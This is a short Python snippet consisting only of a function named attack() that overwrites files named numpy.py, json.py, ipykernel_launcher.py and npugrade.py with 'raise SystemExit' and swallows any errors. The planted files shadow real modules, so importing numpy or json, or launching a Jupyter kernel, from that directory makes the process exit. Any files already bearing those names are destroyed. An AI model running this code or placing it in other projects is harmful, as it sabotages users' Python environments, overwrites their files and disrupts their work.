def attack():
    for name in ("numpy.py", "json.py", "ipykernel_launcher.py", "npugrade.py"):
        try:
            open(name, "w").write("raise SystemExit")
        except OSError:
            pass
